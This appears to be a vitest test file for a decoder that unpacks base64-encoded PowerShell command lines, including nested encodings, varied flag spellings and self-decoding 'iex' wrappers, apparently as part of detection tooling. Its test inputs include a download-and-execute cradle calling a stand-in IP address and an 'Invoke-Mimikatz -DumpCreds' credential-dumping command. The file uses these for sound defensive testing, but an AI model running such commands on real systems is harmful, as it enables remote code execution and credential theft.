import { expect, test } from "vitest";
import { decodeCommand } from "./decode-command.ts";

const wide = (text: string) => Buffer.from(text, "utf16le").toString("base64");

test("the parameter of PowerShell is decoded in all of its spellings", () => {
  const encoded = wide("Get-AzContext | ConvertTo-Json");
  for (const name of ["-EncodedCommand", "-enc", "-e", "/ec", "-eNcOdEd", "\u2013en"]) {
    expect(decodeCommand(`powershell.exe -nop ${name} ${encoded}`)).toBe("Get-AzContext | ConvertTo-Json");
  }
  expect(decodeCommand(`powershell -e "${encoded}"`)).toBe("Get-AzContext | ConvertTo-Json");
});

test("an encoded command inside of another, and text that the command decodes itself, are decoded too", () => {
  const inner = wide("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')");
  expect(decodeCommand(`powershell -e ${wide(`powershell -enc ${inner}`)}`)).toContain("DownloadString");
  const plain = Buffer.from("Invoke-Mimikatz -DumpCreds").toString("base64");
  expect(
    decodeCommand(`powershell -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${plain}')))"`),
  ).toBe("Invoke-Mimikatz -DumpCreds");
});

test("what is not encoded, or no text, is not decoded", () => {
  expect(decodeCommand("powershell -File C:\\Scripts\\backup.ps1 -Environment ProductionEnvironment01")).toBeNull();
  expect(
    decodeCommand(`powershell -e ${Buffer.from("0123456789abcdef".repeat(4), "hex").toString("base64")}`),
  ).toBeNull();
  expect(decodeCommand("")).toBeNull();
});

test("a long or deeply nested command takes bounded time", () => {
  // If it grew faster than the text, it would not end within the limit of a test.
  decodeCommand(`powershell -e ${"A".repeat(2_000_000)}`);
  decodeCommand(`powershell ${"-e ".repeat(400_000)}`);
  decodeCommand(`${"frombase64string(".repeat(100_000)}`);
  let nested = wide("whoami");
  for (let depth = 0; depth < 5; depth += 1) nested = wide(`powershell -e ${nested}`);
  expect(decodeCommand(`powershell -e ${nested}`)?.split("\n").length).toBeLessThanOrEqual(8);
});
